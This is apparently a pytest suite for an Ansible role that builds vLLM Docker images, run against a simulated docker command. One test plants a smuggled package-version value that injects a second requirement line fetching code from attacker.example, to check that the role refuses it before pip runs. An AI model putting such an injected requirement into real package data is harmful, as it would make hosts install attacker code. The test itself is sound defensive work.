# SPDX-License-Identifier: Apache-2.0
"""The role vllm_image as a play against a docker command that keeps its images in a file."""

from __future__ import annotations

import copy
import hashlib
import io
import json
import re
import sys
import tarfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml
from helpers import ROOT, get_words, run_playbook

BASE = "registry.example/vllm/vllm-openai:v0.32.0"
BASE_ID = "sha256:" + "a" * 64
OTHER_ID = "sha256:" + "b" * 64
DIGEST = "sha256:" + "d" * 64
PACKAGES = {"vllm": "0.32.0", "torch": "2.13.0", "transformers": "5.16.0", "tokenizers": "0.23.3", "pip": "26.0"}
CONTENTS = {"python": "3.12", "platforms": ["manylinux_2_35_x86_64", "linux_x86_64"], "packages": PACKAGES}
IMAGE: dict[str, Any] = {"id": BASE_ID, "tags": [BASE], "digests": [DIGEST], "labels": {}, "contents": CONTENTS}
NO_TOKENIZERS = "#8 4.237 ERROR: No matching distribution found for tokenizers"
FULL = "#8 4.237 ERROR: Could not install packages due to an OSError: [Errno 28] No space left on device"
PLAY = """
- hosts: all
  gather_facts: false
  tasks:
    - ansible.builtin.include_role:
        name: vllm_image
    - ansible.builtin.copy:
        content: "{{ vllm_image_result | default({}) | to_json }}"
        dest: "{{ result_file }}"
        mode: "0644"
      check_mode: false
      changed_when: false
"""


@dataclass
class Played:
    """What a run of the play came to."""

    rc: int
    changed: int
    text: str
    result: dict[str, Any]


class Host:
    """A directory in place of a host's state, and the command in place of its Docker."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.wheels = root / "wheels"
        self.wheels.mkdir()
        (self.wheels / "transformers-5.17.0-py3-none-any.whl").write_text("x")
        (self.wheels / "transformers-5.19.0-py3-none-any.whl").touch()
        (root / "play.yml").write_text(PLAY)
        (root / "docker").mkdir()
        (root / "state").mkdir()
        self.docker({"images": [copy.deepcopy(IMAGE)], "registry": {}, "containers": {}})

    def docker(self, state: dict[str, Any]) -> None:
        (self.root / "docker/state.json").write_text(json.dumps(state))

    def docker_state(self) -> dict[str, Any]:
        state: dict[str, Any] = json.loads((self.root / "docker/state.json").read_text())
        return state

    def meet_the_requirement(self) -> None:
        """Gives the base image a transformers that fits: no layer, hence a quicker play."""
        state = self.docker_state()
        state["images"][0]["contents"]["packages"]["transformers"] = "5.18.0"
        self.docker(state)

    def record(self) -> dict[str, Any]:
        found: dict[str, Any] = json.loads((self.root / "state/image.json").read_text())
        return found

    def tags(self) -> list[str]:
        return [tag for image in self.docker_state()["images"] for tag in image["tags"]]

    def commands(self) -> list[str]:
        """What Docker was asked since the last question, without the reading."""
        log = self.root / "docker/log"
        lines = [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []
        log.unlink(missing_ok=True)
        asked = [" ".join(line[:2]) if line[0] == "image" else line[0] for line in lines]
        return [
            item
            for item in asked
            if item not in ("version", "info", "buildx", "image inspect", "image ls", "container", "manifest")
            # The name that the build gives the base image for itself.
            and item not in ("image tag", "image rm")
        ]

    def play(self, check: bool = False, **variables: Any) -> Played:
        given = {
            "vllm_image_base": BASE,
            "vllm_image_matrix": [{"vllm": "==0.32.*", "transformers": ">=5.16.1,<5.20.0", "reference": "its wheel"}],
            "vllm_image_pip_source": "directory",
            "vllm_image_wheels_directory": str(self.wheels),
            "vllm_image_free_mib": 0,
            "vllm_image_docker": str(Path(__file__).with_name("docker_command.py")),
            "vllm_image_state_directory": str(self.root / "state"),
            "result_file": str(self.root / "result.json"),
            "ansible_connection": "local",
            "ansible_python_interpreter": sys.executable,
            **variables,
        }
        words = ["-i", "host,", "play.yml", "-e", json.dumps(given), "--diff", *(["--check"] if check else [])]
        (self.root / "result.json").unlink(missing_ok=True)
        done = run_playbook(*words, cwd=self.root, ANSIBLE_PIPELINING="1", FAKE_DOCKER=str(self.root / "docker"))
        text = get_words(done)
        counted = re.search(r"changed=(\d+)", text)
        path = self.root / "result.json"
        result = json.loads(path.read_text()) if path.exists() else {}
        return Played(done.returncode, int(counted[1]) if counted else -1, text, result)

    def converge(self, changed: int | None = None, **variables: Any) -> Played:
        """A run that succeeds, with that many changes if they are given."""
        played = self.play(**variables)
        assert played.rc == 0 and changed in (None, played.changed), played.text
        return played

    def refuse(self, *words: str, **variables: Any) -> Played:
        """A run that fails and says these words."""
        played = self.play(**variables)
        assert played.rc != 0 and all(text in played.text for text in words), played.text
        return played


@pytest.fixture
def host(tmp_path: Path) -> Host:
    return Host(tmp_path)


def test_way_of_a_derived_image(host: Host) -> None:
    """Foreseen, built, kept, foreseen as nothing, and built again when it is gone."""
    foreseen = host.converge(check=True, changed=1)
    assert "would build vllm-edge/vllm-openai:0.32.0-" in foreseen.text
    assert foreseen.result["id"] == "" and foreseen.result["layer"] is True
    assert list((host.root / "state").iterdir()) == []
    host.commands()

    built = host.converge(vllm_image_python=sys.executable)
    assert host.commands() == ["run", "build", "run", "run"]
    bom = json.loads((host.root / "state/sbom" / f"{built.result['id'][7:19]}.cdx.json").read_text())
    found = {item["name"]: item for item in bom["components"]}
    assert found["transformers"]["properties"][0]["value"] == "layer" and found["torch"]["version"] == "2.13.0"
    assert found["transformers"]["hashes"][0]["content"] == hashlib.sha256(b"").hexdigest()
    assert "names no release (4.57.6 -> 5.0.0)" in built.text
    assert f"vllm_image_base_digest: {DIGEST}" in built.text
    assert built.result["name"] == foreseen.result["name"]
    assert built.result["transformers"] == "5.19.0", "the newest wheel that is there"
    image = host.docker_state()["images"][-1]
    assert image["id"] == built.result["id"]
    assert image["labels"]["vllm-edge.base-id"] == BASE_ID
    assert image["labels"]["vllm-edge.constraint"] == "transformers>=5.16.1,<5.20.0"
    assert image["labels"]["vllm-edge.transformers"] == "5.19.0"
    assert image["labels"]["vllm-edge.inputs"].startswith(built.result["name"].rsplit("-", 1)[1])
    context = json.loads((host.root / "docker/context.json").read_text())
    assert f"FROM vllm-edge/vllm-openai-base:{'a' * 12}\n" in context["Dockerfile"]
    assert not any("-base:" in tag for tag in host.tags())
    assert "torch==2.13.0\n" in context["constraints.txt"] and "tokenizers" not in context["constraints.txt"]
    assert context["requirements.txt"] == "transformers==5.19.0\n"
    assert not (host.root / "state/build/image").exists()

    record = host.record()
    assert (record["cuda"], record["driver_branch"]) == ("13.0.2", "580"), "those of the base image"

    again = host.converge(changed=0, vllm_image_python=sys.executable)
    assert host.commands() == [], "neither looked into nor tested again"
    assert again.result == built.result

    state = host.docker_state()
    host.docker({**state, "images": state["images"][:1], "build_fails": NO_TOKENIZERS})
    failed = host.play()
    assert failed.rc != 0 and "build" in host.commands(), "the image is gone, hence built again"
    assert "transformers 5.19.0: No matching distribution found for tokenizers. pip found no version" in failed.text
    assert "did not complete successfully" not in failed.text and "image-build.log" in failed.text
    assert not (host.root / "state/build/image").exists()


@pytest.mark.thorough
def test_base_that_meets_the_requirement_is_used_until_its_tag_moves(host: Host) -> None:
    host.meet_the_requirement()
    played = host.converge()
    assert played.result["name"] == BASE and played.result["id"] == BASE_ID and played.result["layer"] is False
    assert host.commands() == ["run", "run"]
    assert "there is no layer" in played.text

    state = host.docker_state()
    state["images"][0]["id"] = OTHER_ID
    host.docker(state)
    moved = host.play()
    assert moved.rc != 0
    assert "the tag was moved" in moved.text and f"vllm_image_base_id: {OTHER_ID}" in moved.text
    assert f"docker tag {BASE_ID} {BASE}" in moved.text
    accepted = host.play(vllm_image_base_id=OTHER_ID)
    assert accepted.rc == 0 and accepted.result["base_id"] == OTHER_ID, accepted.text
    assert host.record()["base_id"] == OTHER_ID, "what was accepted is what is recorded"


def test_pinned_identity_that_differs_is_refused(host: Host) -> None:
    host.refuse("vllm_image_base_id pins", vllm_image_base_id=OTHER_ID)
    host.refuse("vllm_image_base_digest pins", vllm_image_base_digest=OTHER_ID)
    assert host.commands() == []


@pytest.mark.thorough
def test_absent_base_is_pulled_by_the_pinned_digest(host: Host) -> None:
    host.meet_the_requirement()
    (image,) = host.docker_state()["images"]
    host.docker({"images": [], "registry": {f"{BASE.rsplit(':', 1)[0]}@{DIGEST}": image}, "containers": {}})
    host.refuse(
        f"1000000000 MiB are needed to install {BASE}: vllm_image_free_mib, which may be lower",
        vllm_image_base_digest=DIGEST,
        vllm_image_free_mib=10**9,
    )
    foreseen = host.play(check=True, vllm_image_base_digest=DIGEST)
    assert foreseen.rc == 0 and foreseen.changed == 1 and foreseen.result == {}
    assert "cannot be foreseen until the base image is on the host" in foreseen.text
    assert host.commands() == []
    host.converge(vllm_image_base_digest=DIGEST)
    assert BASE in host.tags()


def manifest(kind: str, *sizes_mib: int) -> dict[str, Any]:
    """A manifest as `docker manifest inspect --verbose` prints it."""
    return {"Ref": BASE, kind: {"layers": [{"size": size * 1024**2} for size in sizes_mib]}}


@pytest.mark.parametrize(
    "manifests",
    [
        manifest("SchemaV2Manifest", 250_000, 750_000),
        # Two platforms, and the attestation of one of them.
        [manifest("OCIManifest", 1_000_000), manifest("OCIManifest", 900_000), manifest("OCIManifest", 1)],
    ],
    ids=["one platform", "several"],
)
def test_room_for_the_layers_that_the_registry_lists(host: Host, manifests: Any) -> None:
    host.docker({"images": [], "registry": {}, "manifests": {BASE: manifests}, "containers": {}})
    said = "4000000 MiB are needed to install " + BASE + ": 4 times the 1000000 MiB of compressed layers"
    host.refuse(said, vllm_image_free_mib=1)
    assert host.commands() == []


def test_failed_pull_says_what_docker_said(host: Host) -> None:
    host.docker({"images": [], "registry": {}, "containers": {}})
    failed = host.refuse("manifest unknown")
    assert "The registry registry.example answers and does not have it. Set vllm_image_base (now" in failed.text


@pytest.mark.thorough
def test_archive_of_the_controller_is_loaded(host: Host) -> None:
    host.meet_the_requirement()
    (image,) = host.docker_state()["images"]
    host.docker({"images": [], "registry": {}, "containers": {}})
    file = host.root / "base.tar"
    file.write_bytes(b"not whole" * 1000)
    host.refuse("is no uncompressed archive of `docker save`, or not all of one: ", vllm_image_base_archive=str(file))
    config = write_archive(file, image)
    other = host.play(vllm_image_base_archive=str(file), vllm_image_base="registry.example/vllm:1")
    assert other.rc != 0 and f"holds {BASE}, and vllm_image_base is registry.example/vllm:1" in other.text
    host.refuse(
        f"holds the image {config}, and {OTHER_ID} is expected",
        vllm_image_base_archive=str(file),
        vllm_image_base_id=OTHER_ID,
    )
    host.refuse(
        "and vllm_image_base_id is empty", vllm_image_base_archive=str(file), vllm_image_base_archive_on_host=True
    )
    assert host.commands() == [], "nothing of it reached Docker"
    loaded = host.converge(vllm_image_base_archive=str(file))
    assert f"vllm_image_base_id: {config}" in loaded.text, "an archive has no digest to pin"
    assert sorted(path.name for path in (host.root / "state").iterdir()) == ["image.json", "log"]
    assert host.record()["base_ids"] == [config]


def write_archive(file: Path, image: dict[str, Any]) -> str:
    """Write what `docker save` writes of an image, with what the command of these tests loads; return the id."""
    text = json.dumps({**image, "digests": []}).encode()
    config = hashlib.sha256(text).hexdigest()
    manifest = json.dumps([{"Config": f"blobs/sha256/{config}", "RepoTags": [BASE], "Layers": []}]).encode()
    with tarfile.open(file, "w") as tar:
        for name, content in (("manifest.json", manifest), (f"blobs/sha256/{config}", text)):
            member = tarfile.TarInfo(name)
            member.size = len(content)
            tar.addfile(member, io.BytesIO(content))
    return f"sha256:{config}"


@pytest.mark.thorough
def test_archive_that_moves_names_of_others_is_undone(host: Host) -> None:
    """Whatever the check of the archive did not see."""
    host.meet_the_requirement()
    (image,) = host.docker_state()["images"]
    config = write_archive(host.root / "base.tar", image)
    neighbour = {**IMAGE, "id": OTHER_ID, "tags": ["prom/prometheus:v3", "prom/prometheus:v3.1"]}
    moves = {"prom/prometheus:v3": config, "somebody/app:latest": config}
    host.docker({"images": [neighbour], "registry": {}, "containers": {}, "load_moves": moves})
    host.refuse(
        "another image under prom/prometheus:v3, somebody/app:latest",
        vllm_image_base_archive=str(host.root / "base.tar"),
        vllm_image_base_id=config,
    )
    (left,) = host.docker_state()["images"]
    assert left["id"] == OTHER_ID and sorted(left["tags"]) == ["prom/prometheus:v3", "prom/prometheus:v3.1"]
    assert not (host.root / "state/image.json").exists()


@pytest.mark.parametrize("source", ["controller", pytest.param("index", marks=pytest.mark.thorough)])
def test_image_that_lies_about_its_packages_reaches_neither_pip_nor_a_file(host: Host, source: str) -> None:
    (host.root / "pip").write_text(f"#!/bin/sh\ntouch {host.root}/called\n")
    (host.root / "pip").chmod(0o755)
    packages = {**PACKAGES, "zz": "1\ntransformers @ https://attacker.example/x.tar.gz"}
    host.docker({**host.docker_state(), "answer": json.dumps({**CONTENTS, "packages": packages})})
    refused = host.refuse(
        f"What {BASE} says of itself cannot be used: the version of zz is",
        vllm_image_pip_source=source,
        vllm_image_wheels_directory="",
        vllm_image_pip_command=[str(host.root / "pip")],
        vllm_image_wheels_cache=str(host.root / "cache"),
    )
    assert "Traceback" not in refused.text and host.commands() == ["run"]
    assert not (host.root / "called").exists() and not (host.root / "cache").exists()
    assert list((host.root / "state").iterdir()) == []


@pytest.mark.thorough
def test_wheels_from_the_index_are_taken_by_their_hashes_and_held_to_them(host: Host) -> None:
    def report(digest: str) -> dict[str, Any]:
        names = ["transformers-5.19.0-py3-none-any.whl", "tokenizers-0.23.4-cp39-abi3-linux_x86_64.whl"]
        infos = [{"url": f"https://i.example/{n}", "archive_info": {"hashes": {"sha256": digest * 64}}} for n in names]
        return {"install": [{"download_info": info} for info in infos]}

    given = {"vllm_image_pip_source": "index", "vllm_image_wheels_directory": ""}
    base = host.docker_state()
    host.docker({**base, "index_report": report("a")})
    host.refuse("vllm_image_wheel_hashes is empty", f'"{"a" * 64}"', **given, vllm_image_require_pins=True)
    built = host.converge(**given)
    context = json.loads((host.root / "docker/context.json").read_text())
    assert "--require-hashes" in context["Dockerfile"]
    hashed = f"tokenizers==0.23.4 --hash=sha256:{'a' * 64}\ntransformers==5.19.0 --hash=sha256:{'a' * 64}\n"
    assert context["requirements.txt"] == hashed
    wheels = host.record()["wheels"]
    assert sorted(wheels.values()) == ["a" * 64] * 2 and "vllm_image_wheel_hashes: {" in built.text
    host.converge(changed=0, **given, vllm_image_wheel_hashes=wheels)
    host.commands()
    host.docker({**base, "index_report": report("b")})
    host.refuse("are not those of", "has the SHA-256 bbbb", **given)
    assert host.record()["wheels"] == wheels and "build" not in host.commands()


@pytest.mark.thorough
def test_build_on_a_full_disk_is_said_and_nothing_is_left(host: Host) -> None:
    host.refuse(
        "1000000000 MiB are needed to build vllm-edge/vllm-openai:0.32.0-",
        vllm_image_free_mib=1,
        __vllm_image_layer_mib=10**9,
    )
    assert host.commands() == ["run"] and not (host.root / "state/build").exists()
    host.docker({**host.docker_state(), "build_fails": FULL})
    host.refuse("OSError: [Errno 28] No space left on device. Docker's data has no space")
    assert not (host.root / "state/build/image").exists() and not (host.root / "state/image.json").exists()


def test_index_that_the_host_does_not_reach(host: Host) -> None:
    said = (
        "WARNING: Retrying (Retry(total=0)) after connection broken by 'NewConnectionError('<pip._vendor.urllib3."
        "connection.HTTPSConnection object at 0x7f>: Failed to establish a new connection: [Errno 111] Connection "
        "refused')': /simple/transformers/\nERROR: No matching distribution found for transformers"
    )
    host.docker({**host.docker_state(), "index_says": said})
    failed = host.play(
        vllm_image_pip_source="index",
        vllm_image_wheels_directory="",
        vllm_image_pip_index_url="https://user:s3cret@index.example/simple",
    )
    assert failed.rc != 0 and "to the host: Failed to establish a new connection: [Errno 111] Connection refused." in (
        failed.text
    )
    assert "vllm_image_pip_index_url, vllm_image_pip_proxy" in failed.text
    assert "s3cret" not in failed.text and not (host.root / "state/build/image").exists()


@pytest.mark.parametrize(
    ("said", "remedy"),
    [
        ("manifest for r.example/a:1 not found: manifest unknown: manifest unknown", "does not have it. Set"),
        ("pull access denied for a, repository does not exist or may require 'docker login'", "wants a login"),
        ('Get "https://r.example/v2/": http: server gave HTTP response to HTTPS client', "insecure-registries"),
        ('Get "https://r.example/v2/": tls: failed to verify certificate: x509: unknown authority', "certs.d"),
        ("toomanyrequests: You have reached your pull rate limit.", "limits pulls"),
        ("write /var/lib/docker/tmp/GetImageBlob1: no space left on device", "__vllm_image_no_space"),
        ('Get "https://r.example/v2/": dial tcp: lookup r.example: no such host', "does not reach"),
        ('Get "https://r.example/v2/": net/http: request canceled (Client.Timeout exceeded)', "does not reach"),
        ('Get "https://r.example/v2/": context deadline exceeded', "does not reach"),
    ],
)
def test_remedy_fits_what_docker_says(said: str, remedy: str) -> None:
    rows = yaml.safe_load((ROOT / "roles/vllm_image/vars/main.yml").read_text())["__vllm_image_pull_remedies"]
    assert remedy in next(row["remedy"] for row in rows if re.search(row["match"], said))


def test_image_that_fails_its_tests_is_refused_and_not_recorded(host: Host) -> None:
    host.meet_the_requirement()
    host.docker({**host.docker_state(), "failures": ["libgone.so, which _C.so needs, is not found"]})
    host.refuse("libgone.so", "cannot run an engine")
    assert not (host.root / "state/image.json").exists(), "or the next run would take it for tested"


def test_old_images_of_ours_are_removed_and_nobody_elses(host: Host) -> None:
    host.meet_the_requirement()
    labels = {"vllm-edge.inputs": "x"}
    old = [
        {**IMAGE, "id": f"sha256:{n}", "tags": [f"vllm-edge/vllm-openai:old{n}"], "labels": labels} for n in range(4)
    ]
    other = {**IMAGE, "id": OTHER_ID, "tags": ["someone/else:1"]}
    state = {**host.docker_state(), "containers": {"c1": "sha256:0"}}
    state["images"] += [*old, other]
    host.docker(state)
    generation = host.root / "state/generations/4/engines/e2b"
    generation.mkdir(parents=True)
    (generation / "engine.json").write_text(json.dumps({"image_id": "sha256:1"}, indent=2))
    host.converge(vllm_image_keep=2, vllm_image_driver_version="580.173.02")
    kept = [tag.removeprefix("vllm-edge/vllm-openai:") for tag in host.tags() if "old" in tag]
    assert kept == ["old0", "old1", "old3"], "old0 is used by a container, old1 by a kept generation"
    assert {BASE, "someone/else:1"} <= set(host.tags())


@pytest.mark.parametrize("stage", ["image", "engines"])
def test_stages_by_themselves_know_the_driver_before_the_image(stage: str) -> None:
    """Else an image whose CUDA is too new would be used, and its engines would end one after the other."""
    (play,) = yaml.safe_load((ROOT / f"playbooks/{stage}.yml").read_text())
    files = [task.get("ansible.builtin.include_tasks") for task in play["pre_tasks"]]
    roles = [task.get("ansible.builtin.include_role", {}).get("name") for task in play["pre_tasks"]]
    # Roles of a play come after its pre_tasks.
    roles += [role["role"] for role in play.get("roles", [])]
    asks = files.index("tasks/driver.yml")
    assert asks < roles.index("vllm_image")
    assert play["pre_tasks"][asks]["when"] == "nvidia_driver_result is not defined", "the host stage knows more of it"


def test_record_of_an_earlier_release_learns_of_cuda_once(host: Host) -> None:
    host.meet_the_requirement()
    played = host.converge()
    record = host.record()
    earlier = {key: value for key, value in record.items() if key not in ("cuda", "driver_branch")}
    assert len(earlier) == len(record) - 2
    (host.root / "state/image.json").write_text(json.dumps(earlier))
    host.commands()
    foreseen = host.play(check=True)
    assert (foreseen.rc, foreseen.changed) == (0, 1) and host.record() == earlier, foreseen.text
    written = host.play()
    assert (written.rc, written.changed) == (0, 1) and host.record() == record, written.text
    assert host.commands() == [], "nothing is looked into, built or tested for it"
    assert written.result == played.result
    again = host.play()
    assert (again.rc, again.changed) == (0, 0), again.text


@pytest.mark.parametrize(
    ("environment", "cuda"),
    [
        (["PATH=/usr/bin", "NV_CUDA_VERSION=12.9.1"], ""),
        pytest.param(["CUDA_VERSION=14.0.1"], "14.0.1", marks=pytest.mark.thorough),
        pytest.param(None, "", marks=pytest.mark.thorough),
    ],
)
def test_image_whose_driver_nobody_knows(host: Host, environment: list[str] | None, cuda: str) -> None:
    """It is used with whatever driver there is, and the record says no more than is known."""
    host.meet_the_requirement()
    state = host.docker_state()
    state["images"][0]["environment"] = environment
    host.docker(state)
    host.converge(vllm_image_driver_version="470.256.02")
    record = host.record()
    assert (record["cuda"], record["driver_branch"]) == (cuda, "")


def test_driver_that_needs_the_compatibility_library(host: Host) -> None:
    """Whether that works only CUDA can tell."""
    host.meet_the_requirement()
    said = host.converge(vllm_image_driver_version="570.195.03").text
    assert (
        "made with CUDA 13.0.2, which needs a driver of branch 580" in said
        and "570.195.03. Engines can run only" in said
    )
    assert "Engines can run only" not in host.converge(vllm_image_driver_version="580.65.06").text


@pytest.mark.parametrize(
    ("variables", "text"),
    [
        ({"vllm_image_requirement": "transformers<5"}, "is impossible with vLLM 0.32.0"),
        ({"vllm_image_base": "vllm/vllm-openai:latest"}, "'latest' is refused"),
        ({"vllm_image_matrix": []}, "vllm_image_matrix is empty"),
        ({"vllm_image_wheels_directory": ""}, "The directory is needed"),
        ({"vllm_image_docker": "/nonexistent/docker"}, "The role container_runtime installs it"),
    ],
)
def test_refusals(host: Host, variables: dict[str, Any], text: str) -> None:
    host.refuse(text, **variables)
    assert not {"build", "image pull"} & set(host.commands())


def test_check_mode_without_docker_says_one_line(host: Host) -> None:
    foreseen = host.converge(check=True, vllm_image_docker="/nonexistent/docker", changed=1)
    assert "cannot be foreseen until Docker is installed" in foreseen.text


def test_an_image_that_was_pulled_and_takes_no_tag_is_not_said_not_to_have_come(host: Host) -> None:
    reference = f"{BASE.rpartition(':')[0]}@{DIGEST}"
    host.docker({"images": [], "registry": {reference: {**IMAGE, "digests": []}}, "containers": {}})
    played = host.play(vllm_image_base_digest=DIGEST)
    assert played.rc != 0 and "No such image" in played.text, played.text
    assert "could not be pulled" not in played.text
